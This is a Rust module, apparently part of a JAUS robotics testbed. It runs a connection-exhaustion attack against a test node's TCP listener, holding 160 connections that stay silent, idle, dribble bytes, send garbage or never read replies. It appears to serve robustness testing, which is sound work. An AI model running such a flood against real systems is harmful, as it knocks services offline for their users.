//! An attack on a node that accepts TCP connections.

use std::io::ErrorKind;
use std::net::SocketAddr;
use std::time::{Duration, Instant};

use jaus::address::JausId;
use jaus::codec::Message;
use jaus::messages::core::QueryHeartbeatPulse;
use jaus::wire::{Frame, jtcp, judp};
use tokio::net::{TcpSocket, TcpStream};
use tokio::time::{sleep, timeout};

use super::clients::VEHICLE;
use crate::testbed::TO_STRANGERS;

const CONNECTIONS: usize = 160;
const TIME: Duration = Duration::from_secs(12);
const PAUSE: Duration = Duration::from_millis(100);

/// Behaviour of a connection.
#[derive(Clone, Copy)]
enum Habit {
    Silent,
    /// Sends one valid message at the beginning.
    Idle,
    /// Sends valid messages, one octet at a time.
    Dribbles,
    Rubbish,
    /// Queries again and again, and reads no answer.
    NeverReads,
}

const HABITS: [Habit; 5] = [
    Habit::Silent,
    Habit::Idle,
    Habit::Dribbles,
    Habit::Rubbish,
    Habit::NeverReads,
];

struct Connection {
    stream: TcpStream,
    written: usize,
}

/// Connects from four addresses, and reconnects when closed.
pub(crate) async fn run() {
    let mut connections: Vec<Option<Connection>> = (0..CONNECTIONS).map(|_| None).collect();
    let (begun, mut opened) = (Instant::now(), 0);
    println!("\nbegun");
    while begun.elapsed() < TIME {
        for (number, place) in connections.iter_mut().enumerate() {
            if place.is_none() {
                *place = connect(number).await;
                opened += u32::from(place.is_some());
            }
            let lives = place.as_mut().is_some_and(|it| go_on(it, number));
            place.take_if(|_| !lives);
        }
        sleep(PAUSE).await;
    }
    println!("\nattack opened={opened}");
}

async fn connect(number: usize) -> Option<Connection> {
    let own: SocketAddr = ([10, 217, 0, 20 + (number % 4) as u8], 0).into();
    let socket = TcpSocket::new_v4().unwrap();
    socket.bind(own).unwrap();
    let victim = SocketAddr::new(TO_STRANGERS.parse().unwrap(), judp::PORT);
    let stream = timeout(PAUSE, socket.connect(victim)).await.ok()?.ok()?;
    Some(Connection { stream, written: 0 })
}

/// Writes the next octets. Returns whether the connection is still open.
fn go_on(connection: &mut Connection, number: usize) -> bool {
    let id = JausId::new(8000, 1, (number + 1) as u8);
    let query = QueryHeartbeatPulse {}.encode().unwrap();
    let valid = jtcp::encode(&Frame::new(id, VEHICLE, query)).unwrap();
    let written = connection.written;
    let next = match HABITS[number / 4 % HABITS.len()] {
        Habit::Silent => &[],
        Habit::Idle => &valid[written.min(valid.len())..],
        Habit::Dribbles => &valid[written % valid.len()..][..1],
        Habit::Rubbish => &[0x4A; 64],
        Habit::NeverReads => &valid[..],
    };
    match connection.stream.try_write(next) {
        Ok(octets) => connection.written += octets,
        Err(error) => return error.kind() == ErrorKind::WouldBlock,
    }
    // An end of file means that it is closed.
    let mut octet = [0];
    let reads = !matches!(HABITS[number / 4 % HABITS.len()], Habit::NeverReads);
    !reads || !matches!(connection.stream.try_read(&mut octet), Ok(0))
}
